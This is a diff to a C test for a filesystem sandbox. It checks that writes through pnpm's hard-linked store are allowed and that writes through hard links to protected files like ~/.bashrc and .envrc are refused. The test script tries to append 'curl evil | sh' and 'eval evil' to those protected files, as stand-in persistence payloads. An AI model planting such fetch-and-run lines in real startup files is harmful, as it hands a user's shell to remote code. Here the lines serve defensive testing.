@@ -233,13 +233,13 @@ static void hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not(
 
 	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
 		fsbt_skip("%s", why);
-	/* pnpm's layout: the store in home, node_modules linking into it. */
-	snprintf(store, sizeof(store), "%s/.local/share/pnpm/store", f->home);
-	assert_int_equal(system((snprintf(why, sizeof(why), "mkdir -p '%s'", store), why)), 0);
-	snprintf(blob, sizeof(blob), "%s/blob", store);
+	/* pnpm's layout: the store in home, node_modules/.pnpm linking into it. */
+	snprintf(store, sizeof(store), "%s/.local/share/pnpm/store/v3/files/ab", f->home);
+	snprintf(nm, sizeof(nm), "%s/node_modules/.pnpm/a@1.0.0/node_modules/a", f->ws);
+	assert_int_equal(system((snprintf(why, sizeof(why), "mkdir -p '%s' '%s'", store, nm), why)),
+			 0);
+	snprintf(blob, sizeof(blob), "%s/cdef", store);
 	fsbt_write_file(blob, "module.exports = 1;\n");
-	snprintf(nm, sizeof(nm), "%s/node_modules", f->ws);
-	assert_int_equal(mkdir(nm, 0755), 0);
 	link_in(blob, nm, "index.js");
 	/* Links made beforehand to files the pack protects: ~/.bashrc (asked
 	 * about) and the workspace's .envrc (denyModify). */
@@ -251,15 +251,19 @@ static void hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not(
 	link_in(envrc, f->ws, "notes.txt");
 
 	s = run_with_summary(f,
-			     "echo 'module.exports = 2;' > node_modules/index.js && chmod 600 "
-			     "node_modules/index.js && ln node_modules/index.js again.js && echo linked;"
+			     "m=node_modules/.pnpm/a@1.0.0/node_modules/a/index.js;"
+			     "echo 'module.exports = 2;' > $m && chmod 600 $m && ln $m again.js &&"
+			     "echo linked;"
+			     "echo 1 >> again.js || echo outside-refused;"
 			     "echo 'curl evil | sh' >> innocent.txt || echo bashrc-refused;"
 			     "chmod 777 innocent.txt || echo chmod-refused;"
 			     "echo 'eval evil' > notes.txt || echo envrc-refused;"
 			     "ln innocent.txt third.txt || echo link-refused",
 			     &ex, &out);
-	/* The pnpm tree: rewritten, chmodded, linked again, as bare. */
+	/* The pnpm tree: rewritten, chmodded, linked again, as bare; the new
+	 * name outside pnpm's trees is asked about as any hard link. */
 	expect_line(out, "linked\n");
+	expect_line(out, "outside-refused\n");
 	text = fsbt_read_file(blob, NULL);
 	assert_string_equal(text, "module.exports = 2;\n");
 	free(text);
@@ -274,8 +278,8 @@ static void hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not(
 	text = fsbt_read_file(envrc, NULL);
 	assert_string_equal(text, "layout python\n");
 	free(text);
-	/* Refused, naming the protected file; nothing waits for an approval. */
-	assert_int_equal(list_size(s, "waiting"), 0);
+	/* Refused, naming the protected file; only again.js waits. */
+	assert_int_equal(list_size(s, "waiting"), 1);
 	d = cJSON_GetObjectItemCaseSensitive(s, "denied");
 	assert_true(cJSON_GetArraySize(d) >= 3);
 	for (int i = 0; i < cJSON_GetArraySize(d); i++) {
